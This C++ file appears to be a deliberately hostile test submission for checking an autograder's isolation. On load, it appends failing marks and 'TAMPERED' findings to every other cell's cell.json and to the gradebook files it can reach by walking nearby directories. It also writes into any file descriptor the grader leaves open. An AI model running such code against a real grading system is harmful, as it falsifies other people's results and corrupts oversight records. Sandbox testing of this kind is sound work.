// ATTACK tamper: a correct submission that, before its checks, rewrites every other cell's
// record (cell.json) and the gradebook it can find: through the grading folder's real path (baked in by
// make_test_submissions.sh), by walking up from its own folders, and through every open descriptor.
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <unistd.h>
namespace attack {
int written = 0;
void poison(const std::filesystem::path& p) {
    std::ofstream f(p, std::ios::app);
    if (f << "\npassed=0\nfinding=TAMPERED by a classmate\n") ++written;
}
void sweep(const std::filesystem::path& root) {
    std::error_code ec;
    for (auto it = std::filesystem::recursive_directory_iterator(root, std::filesystem::directory_options::skip_permission_denied, ec);
         !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
        const std::string name = it->path().filename().string();
        if (name == "cell.json" || name == "gradebook.csv" || name == "gradebook.md") poison(it->path());
        if (it.depth() > 4) it.disable_recursion_pending();
    }
}
const bool done = [] {
    sweep("@OUT@");
    sweep(std::filesystem::read_symlink("/proc/self/exe").parent_path().parent_path().parent_path());
    sweep(std::filesystem::current_path().parent_path());
    for (int fd = 4; fd < 1024; ++fd)  // any descriptor the grader may have left open: its log, its terminal
        if (write(fd, "\nfinding=TAMPERED through an inherited descriptor\n", 50) > 0) ++written;
    std::printf("tamper: wrote into %d files\n", written);
    return true;
}();
}  // namespace attack
